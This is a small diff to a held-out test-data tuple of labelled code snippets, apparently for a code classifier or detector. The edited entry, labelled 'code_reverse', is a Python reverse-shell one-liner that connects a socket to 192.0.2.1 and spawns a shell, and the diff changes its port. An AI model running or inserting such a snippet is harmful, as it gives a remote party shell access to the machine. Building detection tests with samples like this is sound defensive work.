@@ -128,8 +128,7 @@ HELD_OUT: tuple[tuple[str, str, str], ...] = (
     (
         "python",
         "code_reverse",
-        "import socket,os,pty\ns=socket.socket()\n"
-        "s.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
+        "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',44))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
     ),
     ("python", "code_unparsed", "def f(:\n  return"),
     # Python of every day
